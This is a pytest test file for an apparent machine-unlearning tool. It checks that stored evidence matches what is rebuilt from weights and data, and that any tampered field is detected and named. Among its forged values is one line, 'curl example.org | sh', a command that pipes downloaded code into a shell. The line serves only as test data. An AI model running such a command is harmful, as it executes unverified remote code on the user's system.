"""Evidence that is built again from weights and data is the one that was written."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from expunge import _tensors as tensors
from expunge._errors import DataError
from expunge.evidence import Evidence
from expunge.ledger._id_key import require_id_key
from expunge.ledger._ledger import Ledger
from expunge.request._rebuild import (
    CHECKED_ELSEWHERE,
    NOT_RECOMPUTED,
    Difference,
    _is_last_digit,
    compare_trees,
    compare_with_rebuilt,
)
from expunge.request._reload import NotAvailable, reload_model_and_data
from expunge.request.loading._load import ModelAndData
from tests.unit.request.forgeries import change_evidence
from tests.unit.request.jobs import (
    IDS,
    REFRESH,
    RUINOUS,
    FinishedRequest,
    JobMaker,
    carry_out_quietly,
)


@pytest.fixture
def folder(finished: FinishedRequest, tmp_path: Path) -> Path:
    """The folder of a request, to change at will."""
    return shutil.copytree(finished.folder.parent, tmp_path / "requests")


@pytest.fixture(scope="module")
def loaded(finished: FinishedRequest) -> ModelAndData:
    return reload_model_and_data(Ledger.read(finished.folder.parent))


def again(
    folder: Path, loaded: ModelAndData, number: int = 1, *, replay: bool = False
) -> list[str]:
    key = require_id_key()
    ledger = Ledger.read(folder).unlocked(key, **loaded.sizes)
    earlier = Ledger(folder, ledger.entries[: number - 1])
    return compare_with_rebuilt(ledger.entries[number - 1], earlier, loaded, key, replay=replay)


def test_it_is_the_same_by_the_default_method(
    finished: FinishedRequest, loaded: ModelAndData
) -> None:
    assert again(finished.folder.parent, loaded) == []


@pytest.mark.parametrize(
    ("unit", "records", "stated", "found", "same"),
    [
        ("points", 500, 0.4, 0.5, True),
        ("points", 500, 12.4, 12.6, False),
        ("0 to 1", 500, 0.53, 0.54, True),
        ("0 to 1", 500, 0.53, 0.63, False),
        ("0 to 1", 19, 0.5, 0.6, True),
    ],
)
def test_a_bound_may_differ_in_its_last_digit(
    unit: str, records: int, stated: float, found: float, same: bool
) -> None:
    check = {"unit": unit, "records": records, "low": stated}
    for path, evidence in (
        ("checks.0.low", {"checks": [check]}),
        ("earlier.0.check.low", {"earlier": [{"check": check}]}),
    ):
        assert _is_last_digit(Difference(path, stated, found), evidence) == same


CHANGED: dict[str, Any] = {
    "verdict.headline": "All is well.",
    "verdict.shown.0": "All is well.",
    "request.ids": 3,
    "request.records": 3,
    "request.share": 0.001,
    "hashes.weights_after": "0" * 64,
    "preflight.fit.fits": False,
    "preflight.ids.classes.0.forgotten": 0,
    "preflight.duplicates.exact": 5000,
    "preflight.hardness.auc": 0.5,
    "preflight.warnings": ["None."],
    "margins.auc": 0.7,
    "metrics.1.after.value": 12.0,
    "metrics.0.after_benign_steps.low": 1.0,
    "metrics.1.explain": "Better than before.",
    "checks.0.result": "outside",
    "checks.5.value": 0.99,
    "checks.14.records": 1,
    "classes.2.before": 1.0,
    "exposure.after.3": 1000,
    "limits": [],
    "commands.0": "curl example.org | sh",
}
"""One value of each part of the evidence, by its path, and another in its place."""


def test_every_change_of_what_weights_and_data_tell_is_named(
    folder: Path, loaded: ModelAndData
) -> None:
    def change(evidence: Any) -> None:
        for path, value in CHANGED.items():
            *keys, last = [int(key) if key.isdigit() else key for key in path.split(".")]
            place = evidence
            for key in keys:
                place = place[key]
            assert place[last] != value, path
            place[last] = value

    change_evidence(folder / "0001", change)
    named = {problem.partition(" is ")[0] for problem in again(folder, loaded)}
    missed = [path for path in CHANGED if not any(name.startswith(path) for name in named)]
    assert missed == []


def test_what_shows_the_evidence_shows_nothing_else(folder: Path, loaded: ModelAndData) -> None:
    names = ("report.html", "letter.md", "letter.html", "model-card.cdx.json")
    for name in names:
        path = folder / "0001" / name
        path.write_text(path.read_text() + "\n")
    problems = again(folder, loaded)
    assert sorted(problems) == sorted(f"{n} does not show what evidence.json says" for n in names)
    change_evidence(folder / "0001", lambda e: e["environment"]["versions"].update(expunge="9"))
    with pytest.raises(NotAvailable, match="another way") as stopped:
        again(folder, loaded)
    assert all(name in str(stopped.value) for name in names)


def test_the_other_files_of_a_bundle_are_compared_too(folder: Path, loaded: ModelAndData) -> None:
    bundle = folder / "0001"
    job = bundle / "job.toml"
    job.write_text(job.read_text().replace("margin_test = 100.0", "margin_test = 1.0"))
    records = json.loads((bundle / "forgotten.json").read_text())
    records["records"] = records["records"][1:]
    (bundle / "forgotten.json").write_text(json.dumps(records))
    state, card = tensors.load(bundle / "weights.safetensors")
    card["recipe"]["epochs"] = 1
    tensors.save(bundle / "weights.safetensors", state, card)
    problems = again(folder, loaded)
    for words in (
        "job.toml: margin_test is 100.0, not 1.0",
        "forgotten.json: records.",
        "the card of weights.safetensors.recipe.epochs is 30, not 1",
    ):
        assert any(problem.startswith(words) for problem in problems), words


def test_without_the_weights_from_before_nothing_can_be_rebuilt(
    two_requests: Path, tmp_path: Path, loaded: ModelAndData
) -> None:
    root = shutil.copytree(two_requests, tmp_path / "requests")
    assert again(root, loaded, 2) == []
    (root / "0001" / "weights.safetensors").unlink()
    with pytest.raises(NotAvailable, match=r"0001/weights\.safetensors is gone"):
        again(root, loaded, 2)
    change_evidence(root / "0002", lambda e: e["hashes"].update(weights_before="0" * 64))
    change_evidence(root / "0001", lambda e: e["hashes"].update(weights_before="0" * 64))
    with pytest.raises(NotAvailable, match="from before the first request are not here"):
        again(root, loaded, 1)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("config", "margin_auc"), "x"),
        (("config", "margin_test"), -2.0),
        (("config", "seed"), -1),
        (("config", "received"), "soon"),
        (("request", "when"), "yesterday"),
        (("config", "surprise"), 1),
        (("preflight", "cost"), {"a": 1}),
        (("preflight", "ids"), {"twice": "two"}),
    ],
)
def test_settings_that_are_none_are_an_error(
    folder: Path, loaded: ModelAndData, path: tuple[str, str], value: object
) -> None:
    change_evidence(folder / "0001", lambda e: e[path[0]].update({path[1]: value}))
    with pytest.raises(DataError, match=r"damaged|should be a number"):
        again(folder, loaded)


def test_what_is_not_recomputed_is_named_once_and_exists() -> None:
    paths = [*CHECKED_ELSEWHERE, *(path for paths in NOT_RECOMPUTED.values() for path in paths)]
    assert len(paths) == len(set(paths))
    for path in paths:
        kind: Any = Evidence
        for key in path.split("."):
            fields = getattr(kind, "model_fields", None)
            if fields is None:
                break  # a table of plain values
            assert key in fields, path
            kind = fields[key].annotation
            kind = next((arg for arg in getattr(kind, "__args__", ()) if arg is not None), kind)


def test_a_discarded_model_is_judged_again_from_its_weights(
    make_request: JobMaker, loaded: ModelAndData
) -> None:
    carry_out_quietly(make_request(**RUINOUS))
    assert Ledger.read(make_request.out).entries[0].evidence.discarded
    assert again(make_request.out, loaded) == []
    (make_request.out / "0001" / "discarded.safetensors").unlink()
    with pytest.raises(NotAvailable, match="discarded"):
        again(make_request.out, loaded)


EXACT = {"exact": True, "lr": 0.05, "batch_size": 32, "max_epochs": 3}


@pytest.mark.parametrize("settings", [REFRESH, EXACT, {}], ids=["refresh", "exact", "SRL"])
def test_a_replay_gives_the_same_weights_and_a_planted_record_others(
    make_request: JobMaker, loaded: ModelAndData, settings: dict[str, Any]
) -> None:
    carry_out_quietly(make_request(**settings))
    assert again(make_request.out, loaded, replay=True) == []
    planted = carry_out_quietly(make_request(IDS[1:], **settings, out=make_request.out / "other"))
    assert planted.folder is not None
    for name in ("weights.safetensors", "discarded.safetensors"):
        place = make_request.out / "0001" / name
        if place.exists() and (planted.folder / name).exists():
            shutil.copy(planted.folder / name, place)
    problems = again(make_request.out, loaded, replay=True)
    assert any("gives other weights" in problem for problem in problems)


@pytest.mark.parametrize(
    ("stated", "found"),
    [
        (0.5, 0.50004),
        (97.31, 97.33),
        (0.0, 0.0001),
        (3, 3),
        (3, 3.0),
        (float("nan"), float("nan")),
        (None, None),
        ("UA is 41.3 %, TA 97 %.", "UA is 41.4 %, TA 98 %."),
        ("AUC 0.512 [0.490, 0.530]", "AUC 0.513 [0.490, 0.529]"),
        ("in 90% of pairs", "in 89% of pairs"),
        ("1,234 of 5,000", "1,234 of 5,000"),
        ({"a": [1, {"b": 2.0}]}, {"a": [1, {"b": 2.0001}]}),
    ],
)
def test_rounding_is_not_a_difference(stated: Any, found: Any) -> None:
    assert list(compare_trees({"x": stated}, {"x": found})) == []


@pytest.mark.parametrize(
    ("stated", "found", "path"),
    [
        (0.5, 0.502, "x"),
        (97.31, 97.5, "x"),
        (0.0, 0.001, "x"),
        (3, 4, "x"),
        (1, True, "x"),
        (0, False, "x"),
        (None, 0, "x"),
        (None, float("nan"), "x"),
        ("0.5", 0.5, "x"),
        ("achieved", "not achieved", "x"),
        ("3 of 6 attacks", "2 of 6 attacks", "x"),
        ("UA is 41.3 %", "UA is 41.5 %", "x"),
        ("UA is 41.3 %", "UA is 41.30 %", "x"),
        ("UA is 41.3", "UA is 41.3 %", "x"),
        ([1], [1, 2], "x.1"),
        ([1, 2], [1], "x.1"),
        ({"a": 1}, {}, "x.a"),
        ({}, {"a": None}, "x.a"),
        ({"a": {"b": [{"c": 1}]}}, {"a": {"b": [{"c": 2}]}}, "x.a.b.0.c"),
        ({"a": 1}, [1], "x"),
    ],
)
def test_everything_else_is_a_difference_and_its_place_is_named(
    stated: Any, found: Any, path: str
) -> None:
    (difference,) = compare_trees({"x": stated}, {"x": found})
    assert difference.path == path
    assert str(difference).startswith(f"{path} is ")


def test_only_what_is_named_is_left_out() -> None:
    stated = {"a": {"b": 1, "c": 2}, "rows": [{"t": 1, "n": 1}, {"t": 2, "n": 2}]}
    found = {"a": {"b": 9, "c": 9}, "rows": [{"t": 9, "n": 9}, {"t": 9, "n": 9}]}
    assert list(compare_trees(stated, found, ["a", "rows"])) == []
    paths = [each.path for each in compare_trees(stated, found, ["a.b", "rows.0", "b"])]
    assert paths == ["a.c", "rows.1.t", "rows.1.n"]
